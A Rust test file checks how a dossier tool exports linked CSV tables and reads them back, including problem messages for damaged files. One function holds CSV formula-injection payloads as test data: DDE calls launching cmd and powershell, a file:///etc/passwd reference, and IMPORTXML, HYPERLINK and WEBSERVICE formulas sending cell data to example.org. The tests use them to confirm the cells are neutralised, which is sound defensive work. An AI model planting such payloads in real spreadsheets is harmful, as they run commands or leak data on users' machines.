//! Dossiers as linked tables, read back by our own reader and by another's.

mod common;
mod generated;
mod written;

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use demarche::export::csv::{Cells, written};
use demarche::io::{OpenError, Opened, open_built_in, read_path, read_text};
use demarche::model::{Dossier, is_hidden};
use proptest::prelude::{ProptestConfig, prop_assert, prop_assert_eq, proptest};
use serde_json::Value;

/// A folder with the tables of a dossier, and their description.
struct Tables {
    folder: tempfile::TempDir,
}

impl Tables {
    fn of(dossier: &Dossier, cells: Cells) -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        for file in written(dossier, cells) {
            std::fs::write(folder.path().join(&file.name), &file.bytes).expect("a file");
        }
        Self { folder }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn text(&self, name: &str) -> String {
        std::fs::read_to_string(self.path(name)).expect(name)
    }

    /// Replaces what is there once.
    fn replace(&self, name: &str, from: &str, to: &str) {
        let text = self.text(name);
        assert_eq!(text.matches(from).count(), 1, "{from:?} in {text}");
        std::fs::write(self.path(name), text.replace(from, to)).expect("a file");
    }

    fn read(&self) -> Result<Opened, OpenError> {
        read_path(self.path("datapackage.json"))
    }

    /// The rows of a table as another's reader reads them, by the names of the columns.
    fn rows(&self, name: &str) -> Vec<BTreeMap<String, String>> {
        let mut reader = csv::Reader::from_path(self.path(&format!("{name}.csv"))).expect(name);
        let rows = reader.deserialize().map(|row| row.expect(name));
        rows.collect()
    }
}

fn same(dossier: &Dossier, cells: Cells) -> Opened {
    let opened = Tables::of(dossier, cells).read().expect("they are read");
    assert_eq!(&opened.dossier, dossier);
    opened
}

fn opened(text: &str) -> Dossier {
    let opened = read_text("x.dossier.json", text.as_bytes()).expect("it opens");
    assert_eq!(opened.problems, []);
    opened.dossier
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]

    #[test]
    fn a_thousand_dossiers_are_read_back_equal(opened in written::opened()) {
        for cells in [Cells::Neutralised, Cells::Raw] {
            let again = same(&opened.dossier, cells);
            let circles = again.problems.iter().filter(|p| p.message().contains("in a circle"));
            prop_assert_eq!(circles.count(), again.problems.len(), "{:?}", again.problems);
        }
    }

    /// Those break rules; what is left of them once read is read back equal.
    #[test]
    fn a_thousand_dossiers_that_were_never_files_are_read_back(dossier in generated::dossier()) {
        let first = Tables::of(&dossier, Cells::Neutralised).read().expect("they are read");
        let is_whole = first.problems.iter().all(|p| p.message().contains("in a circle"));
        prop_assert!(!is_whole || first.dossier == dossier);
        same(&first.dossier, Cells::Neutralised);
    }
}

#[test]
fn what_is_by_chance_has_every_field() {
    use proptest::strategy::{Strategy, ValueTree};
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    let mut rows = BTreeMap::<String, usize>::new();
    for _ in 0..50 {
        let opened = written::opened()
            .new_tree(&mut runner)
            .expect("one")
            .current();
        for file in written(&opened.dossier, Cells::Neutralised) {
            let lines = file.bytes.iter().filter(|byte| **byte == b'\n').count();
            *rows.entry(file.name).or_default() += lines - 1;
        }
    }
    assert_eq!(rows.len(), 14);
    for (name, rows) in rows {
        assert!(rows > 10, "{name}: {rows}");
    }
}

#[test]
fn dossiers_of_files_are_read_back_equal() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/dossiers");
    let mut count = 0;
    for entry in std::fs::read_dir(folder).expect("the dossiers") {
        let path = entry.expect("an entry").path();
        if path
            .extension()
            .is_some_and(|extension| extension == "json")
        {
            same(
                &read_path(&path).expect("it opens").dossier,
                Cells::Neutralised,
            );
            count += 1;
        }
    }
    assert!(count >= 9, "{count}");
    let again = same(&open_built_in().expect("it opens").dossier, Cells::Raw);
    assert_eq!(again.problems, []);
    assert_eq!(again.dossier.language(), Some("en"));
    assert!(again.dossier.summary().is_some());
}

#[test]
fn what_was_read_from_tables_is_a_document() {
    let dossier = opened(common::GOOD);
    let document = same(&dossier, Cells::Neutralised).document;
    let again = opened(document.text());
    assert_eq!(again, dossier);
    assert!(
        document
            .text()
            .starts_with("{\n  \"format\": \"demarche-dossier/1\",\n  \"title\": \"Talks\"")
    );
}

/// Two hundred cells that some spreadsheet runs.
fn formulas() -> Vec<String> {
    let beginnings = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\n=",
        " =",
        "\u{a0}+",
        "\u{3000}-",
        "  @",
        "＝",
        "＋",
        "－",
        "＠",
        " ＝",
        "﹦",
        "﹢",
        "﹣",
        "﹫",
        "\u{2212}",
    ];
    let ends = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"https://example.org?x=\"&A1,\"more\")",
        "SUM(A1:A9)*cmd|'/c powershell'!A1",
        "IMPORTXML(CONCAT(\"https://example.org/?\",A2),\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "2+5+cmd|' /C calc'!A0",
        "'file:///etc/passwd'#$passwd.A1",
        "WEBSERVICE(\"https://example.org\")",
        "\"quoted\",and more",
    ];
    let all = beginnings
        .iter()
        .flat_map(|begin| ends.map(|end| format!("{begin}{end}")));
    all.collect()
}

#[test]
fn two_hundred_formulas_run_nowhere_and_are_read_back() {
    let formulas = formulas();
    assert_eq!(formulas.len(), 200);
    for formula in &formulas {
        let text = common::replaced(
            "\"It depends on peace.\"",
            &serde_json::to_string(formula).expect("a text"),
        );
        let text = text.replace("\"line 13\"", &Value::from(formula.as_str()).to_string());
        let dossier = opened(&text);
        let tables = Tables::of(&dossier, Cells::Neutralised);
        let cell = &tables.rows("statements")[0]["text"];
        assert_eq!(cell, &format!("'{formula}"));
        assert!(
            tables.rows("citations")[1]["at"].starts_with('\''),
            "{formula:?}"
        );
        assert_eq!(tables.read().expect("read").dossier, dossier, "{formula:?}");
        let raw = Tables::of(&dossier, Cells::Raw);
        assert_eq!(&raw.rows("statements")[0]["text"], formula);
        assert_eq!(raw.read().expect("read").dossier, dossier, "{formula:?}");
    }
}

#[test]
fn numbers_stay_numbers_and_a_year_before_the_era_is_no_formula() {
    let text = common::replaced("\"2025-02-18\"", "\"-0043-03-15\"");
    let tables = Tables::of(&opened(&text), Cells::Neutralised);
    assert_eq!(tables.rows("places")[1]["lon"], "-77.04");
    assert_eq!(tables.rows("events")[0]["when"], "'-0043-03-15");
}

#[test]
fn nothing_hidden_is_written_raw() {
    let text = common::replaced("\"A summit\"", "\"Mos\\u202ecow\\u0000 \\u200b\"");
    for cells in [Cells::Neutralised, Cells::Raw] {
        for file in written(&opened(&text), cells) {
            let text = String::from_utf8(file.bytes).expect("UTF-8");
            let hidden = text
                .chars()
                .find(|c| is_hidden(*c) && !matches!(c, '\n' | '\r'));
            assert_eq!(hidden, None, "{}", file.name);
            let marked = text.contains("Mos[U+202E]cow[U+0000] [U+200B]");
            assert_eq!(marked, file.name == "events.csv", "{}", file.name);
        }
    }
}

#[test]
fn the_same_dossier_gives_the_same_bytes() {
    let dossier = open_built_in().expect("it opens").dossier;
    let first = written(&dossier, Cells::Neutralised);
    assert_eq!(first, written(&dossier.clone(), Cells::Neutralised));
    assert_eq!(first.len(), 14);
}

/// What the description promises holds of what another's reader reads.
fn check_description(tables: &Tables) {
    let package: Value = serde_json::from_str(&tables.text("datapackage.json")).expect("JSON");
    let resources = package["resources"].as_array().expect("a list");
    assert_eq!(resources.len(), 13);
    let keys = |name: &str, field: &str| -> BTreeSet<String> {
        let rows = tables.rows(name).into_iter();
        rows.map(|row| row[field].clone()).collect()
    };
    let (mut references, mut checked) = (0, 0);
    for resource in resources {
        let name = resource["name"].as_str().expect("a name");
        let rows = tables.rows(name);
        let schema = &resource["schema"];
        let key = schema["primaryKey"][0].as_str().expect("a key");
        assert_eq!(keys(name, key).len(), rows.len(), "{name}");
        let fields = schema["fields"].as_array().expect("a list");
        for field in fields {
            let column = field["name"].as_str().expect("a name");
            for row in &rows {
                let is_required = field["constraints"]["required"] == true;
                assert!(!is_required || !row[column].is_empty(), "{name}.{column}");
                if let (Some(words), false) = (
                    field["constraints"]["enum"].as_array(),
                    row[column].is_empty(),
                ) {
                    assert!(
                        words.contains(&row[column].clone().into()),
                        "{name}.{column}"
                    );
                }
            }
        }
        for foreign in schema["foreignKeys"].as_array().expect("a list") {
            let column = foreign["fields"][0].as_str().expect("a column");
            let other = foreign["reference"]["resource"].as_str().expect("a table");
            let key = foreign["reference"]["fields"][0].as_str().expect("a key");
            let there = keys(other, key);
            let named = rows
                .iter()
                .map(|row| &row[column])
                .filter(|cell| !cell.is_empty());
            for cell in named {
                assert!(there.contains(cell), "{name}.{column}: {cell}");
                checked += 1;
            }
            references += 1;
        }
    }
    assert_eq!(references, 26);
    assert!(checked > 20, "{checked}");
}

#[test]
fn the_description_holds() {
    check_description(&Tables::of(&opened(common::GOOD), Cells::Neutralised));
    let built_in = open_built_in().expect("it opens").dossier;
    check_description(&Tables::of(&built_in, Cells::Neutralised));
}

#[test]
fn a_quotation_mark_that_is_not_closed_is_told_and_swallows_nothing() {
    let tables = Tables::of(&opened(common::GOOD), Cells::Neutralised);
    tables.replace(
        "statements.csv",
        "It depends on peace.",
        "\"It depends on peace.",
    );
    // Another's reader takes the rest of the file for a cell, and says nothing.
    let mut lenient = csv::ReaderBuilder::new();
    let lenient = lenient
        .flexible(true)
        .from_path(tables.path("statements.csv"));
    let rows: Vec<_> = lenient.expect("a file").into_records().collect();
    assert!(rows.len() == 1 && rows[0].is_ok());
    let message = tables.read().expect_err("it is no CSV").to_string();
    assert!(
        message.ends_with(
            "statements.csv:2:49: expected a quotation mark that closes the cell that begins here, \
             found none up to the end of the file"
        ),
        "{message}"
    );
}

/// What is told of tables in which a part of a file was replaced; what is left of them opens.
fn problems(name: &str, from: &str, to: &str) -> Vec<String> {
    let tables = Tables::of(&opened(common::GOOD), Cells::Neutralised);
    tables.replace(name, from, to);
    let opened = tables.read().expect("it opens");
    let folder = tables.folder.path().display().to_string();
    let problems = opened.problems.iter().map(|problem| {
        assert!(!problem.render(false).is_empty());
        problem.to_string().replace(&format!("{folder}/"), "")
    });
    problems.collect()
}

#[test]
fn problems_are_told_with_the_place_of_their_cell() {
    for (name, from, to, told) in [
        (
            "places.csv",
            "24.65",
            "91",
            "places.csv:2:15: expected degrees between -90 and 90, found 91",
        ),
        (
            "places.csv",
            "24.65",
            "north",
            "places.csv:2:15: expected degrees",
        ),
        (
            "events.csv",
            "2025-02-18",
            "soon",
            "events.csv:2:31: expected a date",
        ),
        (
            "claims.csv",
            "floated,,,peace",
            "floated,,,pace",
            "claims.csv:2:28: expected the id of an event, found \"pace\"",
        ),
        (
            "parties.csv",
            "1,talks,usa",
            "1,walks,usa",
            "parties.csv:2:3: expected the key of one event, found \"walks\", which none has; this row is left out",
        ),
        (
            "members.csv",
            "1,1,rubio",
            "1,7,rubio",
            "members.csv:2:3: expected the key of one party",
        ),
        (
            "citations.csv",
            "2,,s-rubio",
            "2,talks,s-rubio",
            "citations.csv:3:3: expected the key of one event or statement, found more than one",
        ),
        (
            "about.csv",
            "riyadh,",
            ",",
            "about.csv:2:1: expected one cell that says something",
        ),
        (
            "actors.csv",
            "saudi,",
            "usa,",
            "actors.csv:3:1: expected another `id`, found \"usa\", which a row of actors has already",
        ),
        (
            "parties.csv",
            "2,talks",
            "1,talks",
            "parties.csv:3:1: expected another `number`",
        ),
        (
            "events.csv",
            "summit,summit,A summit,,,,",
            "summit,summit,A summit,,,",
            "events.csv:3:1: expected 7 cells, as in the first line, found 6; this row is left out",
        ),
        (
            "events.csv",
            "venue",
            "when",
            "events.csv:1:20: expected every column once",
        ),
        (
            "authors.csv",
            "source",
            "quelle",
            "authors.csv:1:1: expected a column `source`, found none",
        ),
        (
            "datapackage.json",
            "\"title\": \"Talks\",",
            "",
            "datapackage.json:1:1: expected",
        ),
    ] {
        let found = problems(name, from, to);
        let is_told = found.iter().any(|problem| problem.starts_with(told));
        assert!(is_told, "{told}\n{found:#?}");
    }
}

#[test]
fn what_is_left_out_names_no_line_of_another_text() {
    let found = problems("places.csv", "24.65", "91");
    let about = found
        .iter()
        .find(|problem| problem.contains("is left out;") || problem.contains("which is left out"));
    let about = about.expect("what refers to it is told");
    assert!(!about.contains("in line"), "{about}");
}

#[test]
fn what_cannot_be_opened_says_which_file_and_why() {
    let check = |break_it: &dyn Fn(&Tables), says: &[&str]| {
        let tables = Tables::of(&opened(common::GOOD), Cells::Neutralised);
        break_it(&tables);
        let message = tables.read().expect_err("it does not open").to_string();
        for words in says {
            assert!(message.contains(words), "{message}");
        }
    };
    check(
        &|tables| std::fs::remove_file(tables.path("claims.csv")).expect("it was there"),
        &["found no file of this name", "claims.csv"],
    );
    check(
        &|tables| std::fs::write(tables.path("claims.csv"), b"\xff\xfex\0").expect("a file"),
        &["UTF-16", "claims.csv"],
    );
    check(
        &|tables| std::fs::write(tables.path("claims.csv"), b"a,\xe9").expect("a file"),
        &["claims.csv:1:3: expected text in UTF-8, found the byte E9"],
    );
    check(
        &|tables| tables.replace("datapackage.json", "demarche-tables/1", "demarche-tables/2"),
        &[
            "datapackage.json:1:1: expected the description of tables",
            "found \"demarche-tables/2\"",
        ],
    );
    check(
        &|tables| tables.replace("datapackage.json", "\"claims.csv\"", "\"../claims.csv\""),
        &[
            "expected the names of files in the folder of the description",
            "../claims.csv",
        ],
    );
    check(
        &|tables| {
            tables.replace(
                "datapackage.json",
                "\"title\": \"Talks\",",
                "\"title\": \"Talks\"",
            )
        },
        &["datapackage.json:5:3"],
    );
}

#[test]
fn a_column_that_no_table_has_is_kept_as_a_field() {
    let tables = Tables::of(&opened(common::GOOD), Cells::Neutralised);
    tables.replace("places.csv", "kind\r\n", "kind,river\r\n");
    tables.replace("places.csv", "capital\r\n", "capital,'=none\r\n");
    tables.replace("places.csv", "-77.04,,\r\n", "-77.04,,,Potomac\r\n");
    let opened = tables.read().expect("it opens");
    assert_eq!(opened.problems, []);
    assert!(opened.document.text().contains("\"river\": \"Potomac\""));
    assert!(opened.document.text().contains("\"river\": \"=none\""));
}
